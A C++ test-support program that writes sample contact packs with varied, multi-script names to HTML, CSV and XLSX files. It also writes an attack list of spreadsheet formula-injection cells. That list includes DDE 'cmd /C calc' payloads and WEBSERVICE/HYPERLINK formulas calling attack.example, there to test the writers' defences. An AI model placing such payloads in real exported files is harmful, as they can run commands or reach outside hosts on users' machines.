// pack_samples FOLDER: packs of made-up people, for independent programs to read (readers_test.py, page/check.mjs) and
// for people to look at. And attack.csv, attack.xlsx: what could make a spreadsheet run something, a cell each.
#include "tests/followup/pack_samples.h"

#include <filesystem>
#include <fstream>
#include <iostream>

#include "followup/csv.h"
#include "followup/folder_names.h"
#include "followup/pack_letter.h"
#include "followup/pack_page.h"
#include "followup/pack_tables.h"
#include "followup/xlsx.h"

namespace {

void put(const std::filesystem::path& file, const std::string& bytes) {
  std::filesystem::create_directories(file.parent_path());
  std::ofstream(file, std::ios::binary) << bytes;
}

using Write = std::function<void(const followup::Rows&)>;

std::string csv(const Write& write) {
  std::string bytes;
  {
    followup::CsvWriter writer([&](std::string_view piece) { bytes += piece; });
    write([&](std::span<const std::string_view> cells) { writer.row(cells); });
  }
  return bytes;
}

std::string xlsx(const Write& write) {
  followup::XlsxWriter writer;
  write([&](std::span<const std::string_view> cells) { writer.row(cells); });
  return writer.finish().value();
}

/// Sixty met people, with names of every script and length.
followup::Pack sixty() {
  followup::Pack pack = support::a_full_pack();
  const auto kinds = pack.met;
  const std::vector<std::string> names = {
      "Wolfeschlegelsteinhausenbergerdorff, Hubert Blaine Sr. Alexander Xerxes Zeus",
      "السيدة فاطمة بنت عبد الرحمن الزهراء",
      "欧阳娜娜",
      "Nguyễn Thị Ánh Tuyết",
      "Ng",
      "עדי כהן-לוי",
      "आर्यभट शर्मा",
      "ธนกฤต วัฒนศิริ",
      "Đorđe Žižek",
      "O'Dowd & Søns <Ltd>"};
  pack.met.clear();
  for (std::size_t i = 0; i < 60; ++i) {
    followup::MetPerson met = kinds[i % kinds.size()];
    met.person = domain::PersonId::parse(std::string(30, '0') +
                                         std::string{"0123456789abcdef"[i / 16], "0123456789abcdef"[i % 16]})
                     .value();
    met.contact.name = names[i % names.size()];
    if (i % 7 == 0) met.contact.job_title = "Principal Consultant for Cross-Border Something-as-a-Service Partnerships";
    if (i % 5 == 0)
      met.notes = {std::string(40, 'x') +
                   " and something long that was said, as people do when they type: " + std::string(120, 'y')};
    met.nth = i % 4;
    met.met += std::chrono::minutes(4 * i);
    pack.met.push_back(std::move(met));
  }
  return pack;
}

followup::Pack nobody() {
  followup::Pack pack = support::a_full_pack();
  pack.name = "Bo";
  pack.met.clear();
  pack.promises.clear();
  pack.introductions_made.clear();
  pack.introductions_of_me.clear();
  return pack;
}

/// One cell a row.
const std::vector<std::string>& attacks() {
  static const std::vector<std::string> cells = {"=1+1",
                                                 "+1+1",
                                                 "-1+1",
                                                 "@SUM(1,1)",
                                                 "\t=1+1",
                                                 "\r=1+1",
                                                 "\n=1+1",
                                                 "=cmd|' /C calc'!A0",
                                                 "+cmd|' /C calc'!A0",
                                                 "=HYPERLINK(\"http://attack.example\",\"x\")",
                                                 "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
                                                 "=WEBSERVICE(\"http://attack.example/\")",
                                                 "x;=1+1",
                                                 "x,=1+1",
                                                 "\"=1+1",
                                                 "\"\"=1+1\"\"",
                                                 "x\n=1+1",
                                                 "x\r\n=1+1",
                                                 "'=1+1",
                                                 " =1+1",
                                                 "{=1+1}",
                                                 "＝1+1",
                                                 "\u200F=1+1",
                                                 "\u202E=1+1",
                                                 "_x003D_1+1",
                                                 "0049301234",
                                                 "+49 30 901820",
                                                 "1E10",
                                                 "2026-11-26",
                                                 "TRUE",
                                                 "x;y,z\"w",
                                                 "\"",
                                                 "",
                                                 std::string(32'767, 'x'),
                                                 "=" + std::string(32'766, 'x'),
                                                 "שלום\u200F (=1+1)",
                                                 "a\tb",
                                                 "-",
                                                 "1/2",
                                                 "#REF!",
                                                 "&lt;b&gt;<b>"};
  return cells;
}

void write_attacks(const followup::Rows& rows) {
  followup::row(rows, {"number", "attack", "after"});
  int number = 0;
  for (const auto& attack : attacks()) followup::row(rows, {"n" + std::to_string(++number), attack, "end"});
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::cerr << "pack_samples FOLDER\n";
    return 2;
  }
  const std::filesystem::path folder = argv[1];
  const auto words = support::english_words();
  const std::vector<std::pair<const char*, followup::Pack>> packs = {
      {"full", support::a_full_pack()}, {"sixty", sixty()}, {"nobody", nobody()}};
  for (const auto& [name, pack] : packs) {
    const auto write = [&](const followup::Rows& rows) { followup::write_pack_table(pack, words, rows); };
    put(folder / name / "index.html", followup::pack_page(pack, words));
    for (const auto& file : followup::letter_of(pack, words, base::from_millis(1'795'800'000'000)).attachments) {
      put(folder / name / file.name, file.bytes);
    }
    put(folder / name / "meetings.csv", csv(write));
    put(folder / name / "meetings.xlsx", xlsx(write));
  }
  put(folder / "attack.csv", csv(write_attacks));
  put(folder / "attack.xlsx", xlsx(write_attacks));
  std::string plain;  // the same cells, for comparing: each ends in a NUL
  for (const auto& attack : attacks()) plain += attack + '\0';
  put(folder / "attack.txt", plain);
  return 0;
}
